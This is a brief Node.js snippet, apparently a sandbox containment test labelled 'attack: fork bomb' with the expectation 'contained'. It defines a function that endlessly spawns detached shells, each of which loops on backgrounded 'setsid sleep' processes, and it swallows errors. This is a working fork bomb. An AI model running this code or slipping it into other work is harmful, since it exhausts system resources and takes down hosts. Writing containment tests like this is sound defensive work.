// attack: fork bomb | expect: contained | alone
const { spawn } = require("node:child_process");
const double = (n) => {
  for (;;) {
    try {
      spawn("/bin/sh", ["-c", "while :; do setsid sleep 100 & done"], { detached: true });
    } catch (error) {}
  }
};
